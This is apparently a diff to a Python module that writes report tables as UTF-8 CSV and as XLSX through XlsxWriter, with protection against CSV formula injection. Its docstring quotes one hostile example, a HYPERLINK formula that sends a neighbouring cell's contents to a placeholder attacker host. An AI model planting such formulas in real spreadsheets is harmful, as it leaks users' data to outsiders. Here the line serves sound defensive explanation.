@@ -1,15 +1,22 @@
 """Tables as files: CSV (UTF-8 with a BOM, so Excel opens Chinese correctly) and XLSX.
 
-The XLSX writer is the standard library's zipfile and a handful of SpreadsheetML parts (inline strings, no
-shared-string table, no styles): enough for Excel, LibreOffice and Numbers to open a table of figures, and
-no new dependency. Decimal strings are written as numbers, so a spreadsheet can add them up.
+The XLSX is written by XlsxWriter: a write-only library (it never has to read a workbook, so it is fast and
+small), maintained, and it writes every part of the format correctly (shared strings, styles, frozen panes,
+column widths), which a hand-written SpreadsheetML did not. Each table is a sheet: the title on the first
+row, the header on the second, frozen so it stays in view, columns as wide as their content (a CJK
+character counts double), and figures written as numbers with the sheet's number formats (money
+`"¥"#,##0.00`, percentages `0.0%` from fractions, counts `#,##0`), so a spreadsheet can add them up.
 
 Text comes from users (a customer's name, a lost reason), and a spreadsheet opening a CSV runs any cell that
 starts like a formula: `=HYPERLINK("http://evil.example/?d="&A2,"x")` would send the next cell away. So every
 CSV text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP's
 rule: the cell then reads as text), while numbers, and strings that are plain decimal numbers like
-`-1600.00`, stay numbers. XLSX needs no such prefix: its text cells are typed inline strings,
-never formulas, and a `'` there would show as part of the name.
+`-1600.00`, stay numbers. The XLSX needs no such prefix: its text cells are written as strings
+(`write_string`), never formulas, and a `'` there would show as part of the name.
+
+Codes never reach a file: a column with a `display_key` writes the row's words (a stage's name) instead.
+A CSV has no formats, so its fractions are written as percentages ("42.86%"), which spreadsheets read as
+numbers; other figures are written as the report holds them.
 """
 
 from __future__ import annotations
@@ -17,16 +24,27 @@ from __future__ import annotations
 import csv
 import io
 import re
-import zipfile
+from collections.abc import Sequence
+from decimal import Decimal
 from typing import Any
-from xml.sax.saxutils import escape
 
-from backend.reports.service import Table
+import xlsxwriter
+
+from backend.reports import words
+from backend.reports.service import Column, Table
 
 BOM = "\ufeff"
 NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
 # What makes a spreadsheet read a CSV cell as a formula (OWASP, "CSV Injection").
 FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+# The sheet's number format for each column format (words.FORMATS); text and plain numbers need none.
+NUMBER_FORMATS = {
+    "money": '"¥"#,##0.00',
+    "percent": "0.0%",
+    "integer": "#,##0",
+    "decimal": "#,##0.0#",
+}
+MAX_WIDTH = 60
 
 
 def _header(column_label: str, unit: str | None) -> str:
@@ -42,55 +60,24 @@ def _cell_text(value: Any) -> str:
     return text
 
 
+def _csv_value(column: Column, row: dict[str, Any]) -> Any:
+    value = row.get(column.shown_key)
+    if column.format == "percent" and (number := words.as_number(value)) is not None:
+        return f"{Decimal(str(number)) * 100:.2f}%"
+    return value
+
+
 def to_csv(table: Table) -> bytes:
     out = io.StringIO()
     writer = csv.writer(out, lineterminator="\r\n")
     writer.writerow([_cell_text(_header(c.label, c.unit)) for c in table.columns])
     for row in table.rows:
-        writer.writerow([_cell_text(row.get(c.key)) for c in table.columns])
+        writer.writerow([_cell_text(_csv_value(c, row)) for c in table.columns])
     return (BOM + out.getvalue()).encode("utf-8")
 
 
-def _column_letter(index: int) -> str:
-    letters = ""
-    index += 1
-    while index:
-        index, remainder = divmod(index - 1, 26)
-        letters = chr(65 + remainder) + letters
-    return letters
-
-
-def _xml_text(value: str) -> str:
-    # XML 1.0 forbids most control characters; a note pasted from elsewhere must not break the file.
-    return escape("".join(ch for ch in value if ch in "\t\n\r" or ord(ch) >= 0x20))
-
-
-def _cell(reference: str, value: Any) -> str:
-    if value is None:
-        return ""
-    if isinstance(value, bool):
-        return f'<c r="{reference}" t="b"><v>{int(value)}</v></c>'
-    if isinstance(value, int | float) or (isinstance(value, str) and NUMBER.match(value)):
-        return f'<c r="{reference}"><v>{value}</v></c>'
-    return f'<c r="{reference}" t="inlineStr"><is><t xml:space="preserve">{_xml_text(str(value))}</t></is></c>'
-
-
-def _sheet(table: Table) -> str:
-    lines: list[list[Any]] = [[_header(c.label, c.unit) for c in table.columns]]
-    lines += [[row.get(c.key) for c in table.columns] for row in table.rows]
-    rows = []
-    for r, values in enumerate(lines, start=1):
-        cells = "".join(_cell(f"{_column_letter(c)}{r}", v) for c, v in enumerate(values))
-        rows.append(f'<row r="{r}">{cells}</row>')
-    return (
-        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
-        f"<sheetData>{''.join(rows)}</sheetData></worksheet>"
-    )
-
-
 def _sheet_name(name: str, taken: set[str]) -> str:
-    clean = re.sub(r"[\[\]:*?/\\]", "_", name)[:31] or "sheet"
+    clean = re.sub(r"[\[\]:*?/\\]", "_", name).strip("'")[:31] or "sheet"
     candidate, n = clean, 2
     while candidate.lower() in taken:
         candidate, n = f"{clean[:28]}_{n}", n + 1
@@ -98,58 +85,59 @@ def _sheet_name(name: str, taken: set[str]) -> str:
     return candidate
 
 
-def to_xlsx(tables: list[Table]) -> bytes:
-    """One workbook, one sheet per table (named after the table)."""
-    taken: set[str] = set()
-    names = [_sheet_name(t.name, taken) for t in tables]
-    content_types = (
-        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
-        '<Default Extension="xml" ContentType="application/xml"/>'
-        '<Override PartName="/xl/workbook.xml" '
-        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
-        + "".join(
-            f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
-            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
-            for i in range(1, len(tables) + 1)
-        )
-        + "</Types>"
-    )
-    root_rels = (
-        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        '<Relationship Id="rId1" '
-        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
-        'Target="xl/workbook.xml"/></Relationships>'
-    )
-    workbook = (
-        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
-        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
-        + "".join(
-            f'<sheet name="{escape(name, {chr(34): "&quot;"})}" sheetId="{i}" r:id="rId{i}"/>'
-            for i, name in enumerate(names, start=1)
-        )
-        + "</sheets></workbook>"
-    )
-    workbook_rels = (
-        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        + "".join(
-            f'<Relationship Id="rId{i}" '
-            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
-            f'Target="worksheets/sheet{i}.xml"/>'
-            for i in range(1, len(tables) + 1)
-        )
-        + "</Relationships>"
-    )
+def text_width(text: str) -> int:
+    """How many character widths a text takes in a sheet: a CJK (or other wide) character counts double."""
+    return sum(2 if ord(char) >= 0x2E80 else 1 for char in text)
+
+
+def _sheet_value(column: Column, row: dict[str, Any]) -> Any:
+    """The cell's value for the sheet: a number where the column holds figures, else the text."""
+    value = row.get(column.shown_key)
+    if value is None:
+        return None
+    if column.format != "text" and not isinstance(value, bool):
+        number = words.as_number(value)
+        if number is not None:
+            return number
+    return str(value)
+
+
+def to_xlsx(tables: list[Table], notes: Sequence[str] = ()) -> bytes:
+    """One workbook, one sheet per table (named in the reader's words); the report's notes under the first."""
     buffer = io.BytesIO()
-    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
-        archive.writestr("[Content_Types].xml", content_types)
-        archive.writestr("_rels/.rels", root_rels)
-        archive.writestr("xl/workbook.xml", workbook)
-        archive.writestr("xl/_rels/workbook.xml.rels", workbook_rels)
-        for i, table in enumerate(tables, start=1):
-            archive.writestr(f"xl/worksheets/sheet{i}.xml", _sheet(table))
+    # Nothing a user typed may become a formula, a number or a link: strings are written as strings.
+    options = {"in_memory": True, "strings_to_formulas": False, "strings_to_numbers": False}
+    book = xlsxwriter.Workbook(buffer, options | {"strings_to_urls": False})
+    title_style = book.add_format({"bold": True, "font_size": 13})
+    header_style = book.add_format({"bold": True, "bottom": 1, "text_wrap": False, "bg_color": "#E6F2F1"})
+    note_style = book.add_format({"italic": True, "font_color": "#475569"})
+    styles = {fmt: book.add_format({"num_format": pattern}) for fmt, pattern in NUMBER_FORMATS.items()}
+    taken: set[str] = set()
+    for index, table in enumerate(tables):
+        sheet = book.add_worksheet(_sheet_name(table.sheet or table.name, taken))
+        sheet.write_string(0, 0, table.title, title_style)
+        widths = []
+        for c, column in enumerate(table.columns):
+            header = _header(column.label, column.unit)
+            sheet.write_string(1, c, header, header_style)
+            widths.append(text_width(header))
+        for r, row in enumerate(table.rows, start=2):
+            for c, column in enumerate(table.columns):
+                value = _sheet_value(column, row)
+                if value is None:
+                    continue
+                if isinstance(value, str):
+                    sheet.write_string(r, c, value)
+                    shown = value
+                else:
+                    sheet.write_number(r, c, value, styles.get(column.format))
+                    shown = words.figure(value, column.format)
+                widths[c] = max(widths[c], text_width(shown))
+        for c, width in enumerate(widths):
+            sheet.set_column(c, c, min(width + 2, MAX_WIDTH))
+        sheet.freeze_panes(2, 0)
+        if index == 0:
+            for n, note in enumerate(notes, start=len(table.rows) + 3):
+                sheet.write_string(n, 0, note, note_style)
+    book.close()
     return buffer.getvalue()
